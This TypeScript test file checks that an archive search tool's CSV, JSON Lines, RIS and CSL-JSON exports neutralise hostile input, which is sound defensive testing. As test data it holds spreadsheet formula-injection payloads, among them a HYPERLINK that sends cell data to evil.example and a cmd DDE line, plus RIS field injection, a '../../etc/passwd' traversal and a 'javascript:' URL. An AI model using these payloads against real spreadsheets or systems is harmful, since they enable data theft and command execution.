import * as fc from 'fast-check';
import Papa from 'papaparse';
import { expect, it } from 'vitest';
import type { SearchAnswer } from '@/lib/model/answers';
import type { DocumentHead, SourceId } from '@/lib/model/document';
import { citedDocument } from '@/tests/cited-document';
import { resultsFile } from './results-file';

type Hit = SearchAnswer['hits'][number];

const hit = (over: Partial<DocumentHead> = {}, text = 'Silt has no passport.'): Hit => ({
  score: 1,
  copies: 0,
  archiveName: 'Harbour archive',
  edition: 'as of 2020',
  excerpt: {
    text,
    marks: [],
    start: 0,
    reason: { kind: 'words', words: ['silt'] },
    isThisPage: false,
    document: citedDocument(over),
  },
});

const csv = (hits: readonly Hit[]): string => resultsFile('silt', hits, 'csv').text;
const rowsOf = (text: string): string[][] =>
  Papa.parse<string[]>(text.replace('\uFEFF', ''), { skipEmptyLines: true }).data;

/** Any text, breaks and control characters among it. */
const anyText = fc.string({ unit: 'binary', maxLength: 40 });

it('writes CSV with a line of names, and a line a hit', () => {
  const text = csv([hit(), hit({ title: 'Silt, again: the "lagoon"' })]);
  expect(text.startsWith('\uFEFF"title","author","date"')).toBe(true);
  expect(rowsOf(text).map((row) => [row[0], row[2], row[4], row[10]])).toEqual([
    ['title', 'date', 'address', 'excerpt'],
    ['A quarrel about silt', '2020-09-09', 'https://courier.example/h04', 'Silt has no passport.'],
    [
      'Silt, again: the "lagoon"',
      '2020-09-09',
      'https://courier.example/h04',
      'Silt has no passport.',
    ],
  ]);
});

it.each([
  '=HYPERLINK("https://evil.example?"&A1)',
  '+1+cmd|"/c calc"!A0',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r\n=1',
  ' =1',
  '\u200B=1',
  '\u202E=1',
  '＝1+1',
  '"=1',
])('keeps %j in CSV from being a formula', (title) => {
  const [, row] = rowsOf(csv([hit({ title })]));
  expect(row?.[0]).toMatch(/^'/);
});

it('leaves signs within a text as they are', () => {
  const [, row] = rowsOf(csv([hit({ title: '1 = 1, a+b, 5-3, me@example' })]));
  expect(row?.[0]).toBe('1 = 1, a+b, 5-3, me@example');
});

it('writes a row of eleven cells for whatever is in the fields', () => {
  fc.assert(
    fc.property(anyText, anyText, anyText, (title, author, text) => {
      const rows = rowsOf(csv([hit({ title, author, id: title as SourceId }, text)]));
      expect(rows.map((row) => row.length)).toEqual([11, 11]);
      for (const value of rows[1] ?? []) expect(value).not.toMatch(/^\s*[=+\-@]/);
    }),
  );
});

it('writes JSON Lines, one hit a line, with every text as it is', () => {
  fc.assert(
    fc.property(anyText, anyText, (title, text) => {
      const lines = resultsFile('x', [hit({ title }, text), hit()], 'jsonl').text.split('\n');
      expect(lines).toHaveLength(3);
      expect(JSON.parse(lines[0] ?? '')).toMatchObject({
        title,
        excerpt: text,
        archive: 'Harbour archive',
      });
    }),
  );
});

it('writes RIS records apart, and no text begins another field', () => {
  fc.assert(
    fc.property(anyText, anyText, (title, text) => {
      const injected = hit({ title: `${title}\r\nER  - \nTY  - BOOK` }, `${text}\nAU  - Nobody`);
      const lines = resultsFile('x', [injected, hit()], 'ris').text.split(
        /[\r\n\u2028\u2029\x85]+/,
      );
      expect(lines.filter((line) => line.startsWith('TY  - '))).toHaveLength(2);
      expect(lines.filter((line) => line.startsWith('ER  - '))).toHaveLength(2);
      expect(lines.filter((line) => line.startsWith('AU  - '))).toHaveLength(2);
    }),
  );
});

it('writes one list of CSL-JSON items', () => {
  const items: unknown = JSON.parse(resultsFile('x', [hit(), hit({ title: 'Two' })], 'csl').text);
  expect(items).toMatchObject([
    { title: 'A quarrel about silt', URL: 'https://courier.example/h04' },
    { title: 'Two', archive: 'Harbour archive, as of 2020' },
  ]);
});

it.each([
  ['Ada Holm silt', 'backfile-Ada-Holm-silt.csv'],
  ['../../etc/passwd', 'backfile-etc-passwd.csv'],
  ['"CON:"?*', 'backfile-CON.csv'],
  ['خلیج فارس', 'backfile-خلیج-فارس.csv'],
  ['???', 'backfile-results.csv'],
  ['a'.repeat(500), `backfile-${'a'.repeat(60)}.csv`],
])('calls the file of %j %j', (query, name) => {
  expect(resultsFile(query, [], 'csv').name).toBe(name);
});

it('hands on no address that is not of the web', () => {
  const text = csv([hit({ url: 'javascript:alert(1)' })]);
  expect(rowsOf(text)[1]?.[4]).toBe('');
});
